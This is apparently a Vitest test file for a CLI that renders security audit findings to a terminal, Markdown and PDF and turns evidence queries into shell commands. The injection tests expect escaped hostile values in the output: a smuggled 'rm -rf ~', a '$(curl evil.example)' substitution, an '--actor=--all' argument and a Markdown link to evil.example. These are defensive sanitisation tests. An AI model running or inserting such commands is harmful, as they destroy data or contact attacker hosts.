import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { describe, expect, it } from 'vitest';
import { addFilterOptions, type FilterOptions, filtersToParams } from '../../src/cli/filter-options.js';
import { textWidth } from '../../src/cli/output/text-width.js';
import { logsCommandLine, logsCommandOf } from '../../src/cli/report/logs-command.js';
import { markdownText, reviewMarkdown } from '../../src/cli/report/review-markdown.js';
import { reviewPdf } from '../../src/cli/report/review-pdf.js';
import { reviewTerminalLines } from '../../src/cli/report/review-terminal.js';
import { findingsAtOrAbove } from '../../src/cli/report/review-text.js';
import { EMPTY_REVIEW, EVERY_SEVERITY, HOSTILE, INFO_ONLY } from '../helpers/review-answer-fixture.js';

// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for escape and control characters is the point.
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const bruteForceId = (n: number) => `log_BF${String(n).padStart(22, '0')}`;
const plain = (review = EVERY_SEVERITY, width = 80) =>
  reviewTerminalLines(review, { zone: 'UTC', color: false, width });

describe('audit report security on a terminal', () => {
  it('prints the range and the counts per severity, then the findings most severe first under their labels', () => {
    const lines = plain();
    expect(lines[0]).toBe('Security review · 2026-11-29 10:00 → 2026-12-06 10:00 (UTC)');
    expect(lines[1]).toBe('Findings: 1 high · 1 medium · 1 low · 1 info');
    const labels = lines
      .filter((line) => /^(HIGH|MEDIUM|LOW|INFO) /.test(line))
      .map((line) => line.split(' ')[0]);
    expect(labels).toEqual(['HIGH', 'MEDIUM', 'LOW', 'INFO']);
    const text = lines.join('\n');
    expect(text).toContain(
      'HIGH    Possible brute force that succeeded: 25 failed sign-ins from\n        198.51.100.77, then bob@example.com signed in\n',
    );
    expect(text).toContain('2026-12-01 09:14 → 09:52 · failed 25 · succeeded 1 · after 2');
  });

  it('lists up to 10 event ids and "+N more", and each evidence query as an audit logs command', () => {
    const text = plain().join('\n');
    expect(text).toMatch(/28 events: log_BF0{22} log_BF0{21}1\s/);
    expect(text).toContain(bruteForceId(9));
    expect(text).not.toContain(bruteForceId(10));
    expect(text).toMatch(/log_BF0{21}9\s+\+18 more\n/);
    expect(text).toContain(
      '        $ audit logs --ip 198.51.100.77 --from 2026-12-01T09:14:00.000Z --to 2026-12-02T09:23:00.000Z',
    );
    expect(text).toContain(
      '$ audit logs --actor alice@example.com --action tunnel.deleted,team.member_removed --team team_eng --from',
    );
    expect(text).toContain('$ audit logs --ip 203.0.113.9 --actor carol@example.com --since 7d');
  });

  it('colours the severity labels, and not at all without colour (NO_COLOR, --no-color, piped)', () => {
    const coloured = reviewTerminalLines(EVERY_SEVERITY, { zone: 'UTC', color: true, width: 80 }).join('\n');
    expect(coloured).toContain('\u001b[31m\u001b[1mHIGH\u001b[22m\u001b[39m');
    expect(coloured).toContain('\u001b[33m\u001b[1mMEDIUM');
    expect(plain().join('\n')).not.toContain('\u001b');
  });

  it('wraps text to the terminal width (at least 40 columns), never cutting an event id or a command', () => {
    for (const width of [40, 60, 80]) {
      const lines = plain(EVERY_SEVERITY, width);
      // Ids and commands are never cut.
      const cuttable = (text: string) => !text.includes('$ audit logs') && !/log_\w{24}/.test(text);
      for (const line of lines.filter(cuttable)) expect(textWidth(line), line).toBeLessThanOrEqual(width);
      expect(lines.join('\n')).toContain(bruteForceId(9));
    }
  });

  it('says so when there are no findings', () => {
    expect(plain(EMPTY_REVIEW)).toEqual([
      'Security review · 2026-11-29 10:00 → 2026-12-06 10:00 (UTC)',
      'Findings: 0 high · 0 medium · 0 low · 0 info',
      '',
      'No findings: nothing in this period matched a review rule.',
    ]);
  });

  it('draws each finding chart with the chart module, indented under the finding', () => {
    const lines = plain();
    const title = lines.indexOf('        Failed sign-ins from 198.51.100.77 by hour');
    expect(title).toBeGreaterThan(0);
    expect(lines[title + 2]).toMatch(/^ {8}2026-12-01 +·█· +25$/);
    expect(lines).toContain(`        created  ${'█'.repeat(60)}  2`);
  });

  it('terminal injection: escape sequences, newlines and bidi controls in summaries, ids, counts and queries never reach the terminal raw', () => {
    const lines = reviewTerminalLines(HOSTILE, { zone: 'UTC', color: false, width: 80 });
    for (const line of lines) expect(line, JSON.stringify(line)).not.toMatch(CONTROL);
    const text = lines.join('\n');
    // The fake "second finding" stays on the first finding's lines, not a line of its own.
    expect(lines.filter((line) => line.startsWith('HIGH'))).toHaveLength(1);
    expect(text).toContain("--ip '198.51.100.77'\\''; rm -rf ~; echo '\\'''");
    expect(text).toContain("--search $'$(curl evil.example)\\n```id`'");
    expect(text).toContain('--actor=--all');
    expect(text).toContain('# also weird_param=x (no audit logs flag)');
  });
});

describe('the evidence query as an audit logs command', () => {
  /** The words parsed by the flags of audit logs, back into list parameters. */
  const parsedBack = (words: string[]) => {
    const command = addFilterOptions(new Command('logs').exitOverride());
    command.parse(words.slice(2), { from: 'user' });
    return filtersToParams(command.opts<FilterOptions>(), { zone: 'UTC', now: Date.now() });
  };

  it.each([
    [{ ip: '198.51.100.77', from: '2026-12-01T09:14:00.000Z', to: '2026-12-02T09:23:00.000Z' }],
    [{ actor: 'alice@example.com', action: 'tunnel.deleted', team_id: 'team_eng', since: '7d' }],
    [{ category: 'auth', q: 'bad password', target: 'api-staging', resource: 'x', detailed: 'true' }],
    [{ q: '--all', actor: '-x' }],
  ])('sets the same list parameters through the flags of audit logs: %j', (query) => {
    const { words, unmapped } = logsCommandOf(query);
    expect(words.slice(0, 2)).toEqual(['audit', 'logs']);
    expect(unmapped).toEqual([]);
    const expected: Record<string, unknown> = { ...query };
    if ('action' in query) expected.action = [query.action];
    if ('category' in query) expected.category = [query.category];
    if ('detailed' in query) expected.detailed = true;
    expect(parsedBack(words)).toEqual(expected);
  });

  it('maps actor_id to --actor and quotes what sh would read otherwise', () => {
    expect(logsCommandLine({ actor_id: 'user 1', ip: '::1' })).toBe("audit logs --ip ::1 --actor 'user 1'");
  });
});

describe('--fail-on', () => {
  it('counts the findings at or above the severity; info never fails', () => {
    expect(findingsAtOrAbove(EVERY_SEVERITY, 'high')).toHaveLength(1);
    expect(findingsAtOrAbove(EVERY_SEVERITY, 'medium')).toHaveLength(2);
    expect(findingsAtOrAbove(EVERY_SEVERITY, 'low')).toHaveLength(3);
    expect(findingsAtOrAbove(INFO_ONLY, 'low')).toHaveLength(0);
  });
});

describe('audit report security --format md', () => {
  it('writes a title, the period and a section per finding with its commands in a sh block', () => {
    const md = reviewMarkdown(EVERY_SEVERITY, { zone: 'UTC', source: 'organization default' });
    expect(md).toMatch(/^# Security review\n\n- \*\*Log:\*\* organization default\n/);
    expect(md).toContain('- **Findings:** 1 high · 1 medium · 1 low · 1 info');
    expect(md).toContain('## 1. HIGH: Possible brute force that succeeded');
    expect(md).toContain('## 4. INFO: 2 API tokens created, 1 revoked');
    expect(md).toContain(
      '```sh\naudit logs --ip 198.51.100.77 --from 2026-12-01T09:14:00.000Z --to 2026-12-02T09:23:00.000Z\n```',
    );
    expect(md).toContain(', and 18 more');
  });

  it('puts each chart in a fenced text block, without colour', () => {
    const md = reviewMarkdown(EVERY_SEVERITY, { zone: 'UTC' });
    expect(md).toMatch(/```text\nAPI tokens\ncreated +█+ +2\nrevoked +█+ +1\n```/);
    expect(md).not.toContain('\u001b');
  });

  it('Markdown injection: a finding cannot add a link, an image, HTML or end a code block', () => {
    const md = reviewMarkdown(HOSTILE, { zone: 'UTC' });
    expect(md).not.toMatch(CONTROL);
    expect(md).toContain('\\[click\\](https://evil.example) \\<img src=x\\> \\`\\`\\`');
    // The command holds a backtick run; its fence is longer than it.
    expect(md).toMatch(/\n````sh\naudit logs .*\n````\n/);
    expect(markdownText('*a* _b_ | c')).toBe('\\*a\\* \\_b\\_ \\| c');
  });

  it('says so when there are no findings', () => {
    expect(reviewMarkdown(EMPTY_REVIEW, { zone: 'UTC' })).toContain(
      'No findings: nothing in this period matched a review rule.',
    );
  });
});

describe('audit report security --format pdf', () => {
  const hasPdftotext = (() => {
    try {
      execFileSync('pdftotext', ['-v'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();

  it('is a PDF with every finding, its commands and its charts, hostile text included', async () => {
    for (const review of [EVERY_SEVERITY, HOSTILE, EMPTY_REVIEW]) {
      const pdf = await reviewPdf(review, {
        zone: 'UTC',
        source: 'organization default at http://127.0.0.1:7787',
      });
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(pdf.subarray(-6).toString('latin1')).toMatch(/%%EOF\n?$/);
    }
  });

  it.skipIf(!hasPdftotext)('reads back as the review (pdftotext)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'review-pdf-'));
    try {
      const file = join(dir, 'review.pdf');
      await writeFile(file, await reviewPdf(EVERY_SEVERITY, { zone: 'UTC', source: 'organization default' }));
      const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
      expect(text).toContain('Security review');
      expect(text).toContain('HIGH');
      expect(text).toContain('Possible brute force that succeeded');
      expect(text).toContain('$ audit logs --ip 198.51.100.77');
      expect(text).toContain('Failed sign-ins from 198.51.100.77 by hour');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
